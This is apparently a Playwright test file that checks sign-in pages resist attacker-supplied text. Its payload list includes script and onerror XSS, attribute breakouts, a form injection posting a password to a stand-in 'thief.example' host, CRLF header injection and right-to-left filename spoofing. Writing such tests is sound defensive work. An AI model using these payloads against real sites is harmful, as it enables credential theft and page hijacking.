import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { openSample, type WithPage } from './open-chromium.ts';
import { samplePages } from './sample-pages.ts';
import { wordsFullOf } from './sample-words.ts';
import { withPages } from './serve-pages.ts';

// One after another in one text: what one of them opened, the page would show.
const attack = [
  '<script>window.taken = true</script>',
  '"><img src=x onerror="window.taken = true">',
  "' autofocus onfocus=window.taken=true x='",
  '</title></style></textarea></bdi></main></body></html><h1>Bank</h1>',
  '</form><form action="https://thief.example" method="get"><input name="password">',
  '</style><style>body{display:none}</style>',
  '<!-- &lt;b&gt; &#x3c;script&#x3e; --><![CDATA[',
  'moc.tosoc\u202Etxt.exe\u2066',
  'a\u0000b\u001B[31m\r\nSet-Cookie: a=b',
  '$'.concat('{name("x")} {name} %s $& $1'),
].join(' ');

// The tree of elements with everything but words: what an attack would change.
function shapeOf(page: Page): Promise<string> {
  return page.evaluate(() => {
    const write = (element: Element): string => {
      const attributes = [...element.attributes].map(({ name }) => name).join(',');
      return `${element.localName}[${attributes}](${[...element.children].map(write).join('')})`;
    };
    return write(document.documentElement);
  });
}

function textOf(page: Page) {
  return page.evaluate(() => ({
    all: document.documentElement.outerHTML,
    isolated: [...document.querySelectorAll('bdi')].map(({ textContent }) => textContent),
  }));
}

/** Judges what words of an attacker do in a page. */
export function judgeHostileWords(withPage: WithPage): void {
  describe('sign-in pages, with words of an attacker', () => {
    function look<T>(
      words: string,
      work: (page: Page, name: string) => Promise<T>,
      complaints: string[] = [],
    ): Promise<readonly T[]> {
      const pages = samplePages(wordsFullOf(words));
      return withPages(pages, (origin) =>
        withPage({}, async (page) => {
          const seen: T[] = [];
          page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()));
          for (const name of Object.keys(pages)) {
            await openSample(page, `${origin}/${name}`);
            seen.push(await work(page, name));
          }
          return seen;
        }),
      );
    }

    it('attack: no word changes what a page is made of, runs, or breaks the policy', async () => {
      const complaints: string[] = [];
      const honest = await look('honest', shapeOf);
      const judge = async (page: Page, name: string): Promise<string> => {
        assert.equal(await page.evaluate(() => 'taken' in window), false, name);
        return shapeOf(page);
      };
      const hostile = await look(attack, judge, complaints);
      assert.deepEqual(hostile, honest);
      assert.deepEqual(complaints, []);
    });

    it('attack: a name that reorders letters is shown with its trick, inside an isolate', async () => {
      const texts = await look('moc.tosoc\u202Etxt.exe', textOf);
      for (const { all } of texts) {
        // What buttons and hidden fields send is sent as it is; what people read is not.
        assert.doesNotMatch(all.replaceAll(/value="[^"]*"/g, ''), /\u202E/);
      }
      const isolated = texts.flatMap((text) => text.isolated).filter((text) => text === 'moc.tosoc\uFFFDtxt.exe');
      assert.ok(isolated.length > 20);
    });

    it('a button sends the very name that it stands for', async () => {
      const words = 'o"Neil <ada>&amp;\u202E';
      await withPages(samplePages(wordsFullOf(words)), (origin) =>
        withPage({}, async (page) => {
          await openSample(page, `${origin}/sign-in`);
          const sent = page.waitForRequest((request) => request.method() === 'POST');
          await page.locator('button[name="user"]').click();
          const fields = [...new URLSearchParams((await sent).postData() ?? '')];
          assert.deepEqual(fields, [
            ['flow', words],
            ['anti_forgery', words],
            ['user', words],
          ]);
        }),
      );
    });
  });
}
